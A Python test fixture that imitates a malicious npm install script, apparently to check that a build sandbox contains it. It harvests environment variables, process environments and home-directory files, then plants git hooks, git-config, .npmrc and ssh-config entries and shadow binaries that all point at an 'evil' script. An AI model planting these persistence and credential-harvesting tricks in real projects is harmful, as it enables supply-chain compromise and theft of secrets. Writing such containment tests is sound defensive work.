"""Stands in for npm, as a dependency's install script would act: takes what it finds, and plants what may be run later.

What it finds goes to the file ``found`` in the app's folder; whatever it plants adds a line to $RAN when it is run.
"""

from __future__ import annotations

import os
import sys
from pathlib import Path

ran = os.environ["RAN"]
app = Path.cwd()
program = f'#!/bin/sh\necho "$0" >> {ran}\n'


def plant(path: Path, text: str, mode: int = 0o755) -> None:
    """Write a file, whatever was there."""
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(mode)


def look() -> str:
    """Its variables, those of every process, and every file that it sees."""
    said = [repr(dict(os.environ)), repr(sys.argv)]
    places = [Path(place) for place in os.environ["THE_POD_SEES"].split(os.pathsep)]
    files = [*Path("/proc").glob("[0-9]*/environ"), *Path("/proc").glob("[0-9]*/cmdline")]
    for place in (*places, Path(os.environ["HOME"])):
        files += [path for path in place.rglob("*") if path.is_file()]
    for path in files:
        try:
            said.append(f"{path}: {path.read_bytes()!r}")
        except OSError:
            continue
    return "\n".join(said)


seen = look()
(app / "found").write_text(seen)
Path(os.environ["FOUND"]).write_text(seen)

# What an honest install leaves.
plant(app / "node_modules" / "expo" / "package.json", '{"name": "expo"}')
plant(app / "plugin" / "build" / "index.js", "compiled")
if (app / "packages").is_dir():
    plant(app / "packages" / "one" / "node_modules" / "x" / "index.js", "")

# What a hostile one leaves.
evil = app / "node_modules" / "evil"
plant(evil, program)
git = app / ".git"
for hook in ("post-checkout", "post-index-change", "reference-transaction", "pre-commit", "post-merge"):
    plant(git / "hooks" / hook, program)
    plant(app / "planted-hooks" / hook, program)
plant(
    git / "config",
    f"[core]\nrepositoryformatversion = 0\nfsmonitor = {evil}\nhooksPath = {app}/planted-hooks\nsshCommand = {evil}\n"
    f'pager = {evil}\n[diff]\nexternal = {evil}\n[credential]\nhelper = {evil}\n[filter "evil"]\nclean = {evil}\n'
    f'smudge = {evil}\n[remote "origin"]\nurl = ext::{evil}\nuploadpack = {evil}\n[alias]\nstatus = !{evil}\n',
    0o644,
)
plant(git / "info" / "attributes", "* filter=evil diff=evil\n", 0o644)
plant(app / ".gitattributes", "* filter=evil\n", 0o644)
plant(app / "sub" / ".git", "gitdir: /planted\n", 0o644)
for folder in (app, Path(os.environ["HOME"])):
    plant(folder / ".npmrc", f"script-shell={evil}\nnode-options=--require={evil}\n", 0o644)
    plant(folder / ".gitconfig", f"[core]\nfsmonitor = {evil}\n", 0o644)
    plant(folder / ".ssh" / "config", f"Host *\n  ProxyCommand {evil}\n", 0o644)
for name in ("git", "node", "npm", "sh", "eas"):
    plant(app / name, program)
    plant(app / "node_modules" / ".bin" / name, program)
    plant(Path(os.environ["HOME"]) / "bin" / name, program)
plant(app / "eas.json", '{"build": {"production": {"env": {"EVIL": "1"}}}, "submit": {"production": {}}}', 0o644)
plant(app / "app.config.js", "require('./node_modules/evil')", 0o644)
